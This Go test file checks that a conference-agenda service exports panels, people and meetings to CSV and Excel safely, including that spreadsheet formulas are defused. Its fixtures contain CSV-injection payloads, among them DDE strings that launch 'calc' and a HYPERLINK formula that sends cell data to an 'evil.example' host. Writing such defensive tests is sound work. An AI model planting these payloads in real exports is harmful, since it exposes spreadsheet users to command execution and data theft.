package exchange

import (
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"plenary/internal/agenda"
)

// organizersTables has something of everything that organizers see, and what a spreadsheet would stumble over.
func organizersTables() Tables {
	d := fieldDraft()
	d.Panels[1].Title["zh-Hant"] = "法律"
	d.Panels[1].Abstract["en"] = "First line\n“second”; \"third\", and more"
	d.People[1].Name = "=Zoé; HYPERLINK(\"http://evil.example\")"
	d.People[1].Organization = agenda.Text{"en": "_x0041_ & <b>"}
	d.People[2].Name = "Who is invited"
	d.People[0].Bio = agenda.Text{"vi": "@SUM(1+1)*cmd|' /C calc'!A0"}
	late := 200 // minutes, which is after the panel
	declined := agenda.Speaker{PersonID: uuid(25), Role: agenda.Panelist, Status: agenda.Declined}
	d.Panels[1].Speakers = append(d.Panels[1].Speakers, declined)
	d.Panels[1].Interventions = append(d.Panels[1].Interventions, agenda.Intervention{ID: uuid(44), Title: agenda.Text{"vi": "Muộn"}, Offset: &late,
		Minutes: 10, Speakers: []agenda.Speaker{declined}})
	zone, _ := agenda.LoadZone(d.Event.Zone)
	slot, _ := agenda.NewSlot(zone, uuid(11), "2025-10-28T23:30", "2025-10-29T00:30")
	early, _ := agenda.NewSlot(zone, "", "2025-10-27T08:00:30", "2025-10-27T08:20")
	delegation := func(name string, people ...agenda.Delegate) agenda.Delegation {
		return agenda.Delegation{Name: agenda.Text{"en": name}, Delegates: people}
	}
	return Tables{Draft: d, BaseURL: "https://plenary.example", Meetings: []agenda.Meeting{
		{ID: uuid(61), Status: agenda.MeetingRequested, Visibility: agenda.VisibleToParticipants, Topic: agenda.Text{"fr": "Échange"}},
		{ID: uuid(62), Status: agenda.MeetingAccepted, Visibility: agenda.VisibleToProtocol, Slot: &slot, Sides: [2]agenda.Delegation{
			delegation("+Viet Nam", agenda.Delegate{PersonID: uuid(21), Role: agenda.Principal}, agenda.Delegate{PersonID: uuid(26), Role: agenda.NoteTaker}),
			delegation("France", agenda.Delegate{PersonID: uuid(22), Role: agenda.Principal})}},
		{ID: uuid(63), Status: agenda.MeetingCancelled, Visibility: agenda.VisibleToProtocol, Slot: &early, Sides: [2]agenda.Delegation{
			delegation("", agenda.Delegate{PersonID: uuid(21), Role: agenda.Principal}), {}}},
	}}
}

var csvTables = map[string]func(io.Writer, Tables) error{"panels": PanelsCSV, "people": PeopleCSV, "meetings": MeetingsCSV}

func TestTablesCSV(t *testing.T) {
	for name, write := range csvTables {
		var b bytes.Buffer
		if err := write(&b, organizersTables()); err != nil {
			t.Fatal(err)
		}
		goldenLines(t, "table_"+name+".csv", b.Bytes())
		if err := write(brokenWriter{}, organizersTables()); err == nil {
			t.Errorf("%s: that nothing can be written is no error", name)
		}
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

// Whatever the draft, what is read back from CSV and from the workbook is what the tables hold.
func TestTablesAreReadBack(t *testing.T) {
	all := []Tables{organizersTables(), {}}
	for seed := range uint64(60) {
		b := newDice(seed).bundle()
		all = append(all, Tables{Draft: b.Draft, Meetings: b.Meetings, BaseURL: "https://plenary.example"})
	}
	for n, tables := range all {
		c := newClerk(tables)
		var b bytes.Buffer
		if err := Workbook(&b, tables); err != nil {
			t.Fatal(err)
		}
		book, err := excelize.OpenReader(&b)
		if err != nil {
			t.Fatal(err)
		}
		if got := book.GetSheetList(); !slices.Equal(got, []string{"Panels", "People", "Meetings"}) {
			t.Fatalf("sheets %v", got)
		}
		for name, s := range map[string]sheet{"panels": c.panels(), "people": c.people(), "meetings": c.meetings()} {
			want := plainRows(t, s)
			var b bytes.Buffer
			if err := csvTables[name](&b, tables); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, readCSV(t, b.Bytes())); diff != "" {
				t.Errorf("%d: %s.csv (-want +got):\n%s", n, name, diff)
			}
			if diff := cmp.Diff(want, readSheet(t, book, s.name, len(s.columns))); diff != "" {
				t.Errorf("%d: the sheet %s (-want +got):\n%s", n, s.name, diff)
			}
		}
		book.Close()
	}
}

// plainRows gives the cells of a sheet as texts, below the headers.
func plainRows(t *testing.T, s sheet) [][]string {
	t.Helper()
	var rows [][]string
	var line []string
	for _, c := range s.columns {
		line = append(line, c.header)
	}
	for _, row := range append([][]any{nil}, s.rows...) {
		if row != nil {
			line = nil
		}
		for _, cell := range row {
			switch v := cell.(type) {
			case string:
				line = append(line, v)
			case int:
				line = append(line, strconv.Itoa(v))
			case nil:
				line = append(line, "")
			default:
				t.Fatalf("a cell is %T", v)
			}
		}
		if len(line) != len(s.columns) {
			t.Fatalf("%d cells in %d columns: %v", len(line), len(s.columns), line)
		}
		rows = append(rows, line)
	}
	return rows
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	b, marked := bytes.CutPrefix(b, []byte("\xef\xbb\xbf"))
	if !marked || !utf8.Valid(b) || bytes.Count(b, []byte("\n")) != bytes.Count(b, []byte("\r\n")) {
		t.Errorf("no byte order mark, not UTF-8, or a line that does not end with CRLF:\n%q", b)
	}
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for i, s := range row {
			if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
				t.Errorf("a formula: %q", s)
			}
			if len(s) > 1 && s[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(s[1])) {
				row[i] = s[1:]
			}
		}
	}
	return rows
}

func readSheet(t *testing.T, book *excelize.File, name string, width int) [][]string {
	t.Helper()
	rows, err := book.GetRows(name)
	if err != nil {
		t.Fatal(err)
	}
	for i := range rows {
		for len(rows[i]) < width { // cells at the end of a row that hold nothing are not there
			rows[i] = append(rows[i], "")
		}
	}
	return rows
}

func TestHoleV30FormulasAreDefused(t *testing.T) {
	for in, want := range map[string]string{"": "", "a": "a", "1": "1", "'a": "'a", "“=": "“=", "a=1": "a=1", "é": "é",
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "=": "'=",
		"=HYPERLINK(\"http://evil.example?\"&A1)": "'=HYPERLINK(\"http://evil.example?\"&A1)", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0"} {
		if got := defused(in); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
	d := agenda.Draft{Event: agenda.Event{Languages: []string{"en"}}, People: []agenda.Person{{ID: "x", Name: "=cmd|'/C calc'!A0"}},
		Panels: []agenda.Panel{{ID: "p", Code: "P", Title: agenda.Text{"en": "-1"}, Speakers: []agenda.Speaker{{PersonID: "x", Role: agenda.Chair, Status: agenda.Invited}}}}}
	var b bytes.Buffer
	if err := PanelsCSV(&b, Tables{Draft: d}); err != nil || !strings.Contains(b.String(), ",'-1,") || !strings.Contains(b.String(), ",'=cmd|'/C calc'!A0,") {
		t.Errorf("%v\n%s", err, b.String())
	}
	var book bytes.Buffer
	if err := Workbook(&book, Tables{Draft: d}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&book)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{"C2": "-1", "U2": "=cmd|'/C calc'!A0"} {
		value, _ := f.GetCellValue("Panels", cell)
		formula, _ := f.GetCellFormula("Panels", cell)
		kind, _ := f.GetCellType("Panels", cell)
		if value != want || formula != "" || kind != excelize.CellTypeInlineString {
			t.Errorf("%s: %q, formula %q, type %v", cell, value, formula, kind)
		}
	}
}

func TestWorkbookLooksLikeOne(t *testing.T) {
	var b bytes.Buffer
	if err := Workbook(&b, organizersTables()); err != nil {
		t.Fatal(err)
	}
	if err := Workbook(brokenWriter{}, organizersTables()); err == nil {
		t.Error("that nothing can be written is no error")
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, name := range f.GetSheetList() {
		panes, err := f.GetPanes(name)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: panes %+v, %v", name, panes, err)
		}
		id, _ := f.GetCellStyle(name, "A1")
		style, err := f.GetStyle(id)
		if err != nil || style.Font == nil || !style.Font.Bold {
			t.Errorf("%s: style %+v, %v", name, style, err)
		}
	}
	kind, _ := f.GetCellType("Panels", "S2")
	if minutes, _ := f.GetCellValue("Panels", "S2"); minutes != "60" || kind == excelize.CellTypeInlineString {
		t.Errorf("minutes %q of type %v", minutes, kind)
	}
}

// Excel refuses a workbook with a cell that is too long. There is room for every text that is allowed, but not for all
// the names that there may be.
func TestCellsAreNotTooLong(t *testing.T) {
	for _, s := range []string{strings.Repeat("x", 32767), strings.Repeat("é", 32767), strings.Repeat("😀", 16383) + "x"} {
		if fitted(s) != s {
			t.Errorf("%d bytes fit", len(s))
		}
	}
	for _, s := range []string{strings.Repeat("x", 32768), strings.Repeat("é", 40000), strings.Repeat("😀", 16384), strings.Repeat("x😀", 20000)} {
		got := fitted(s)
		units := 0
		for _, r := range got {
			units += len(string([]rune{r})) / 4 // those of four bytes have two units
			units++
		}
		if units > 32767 || units < 32765 || !strings.HasSuffix(got, "…") || !utf8.ValidString(got) {
			t.Errorf("%d bytes became %d units", len(s), units)
		}
	}
}
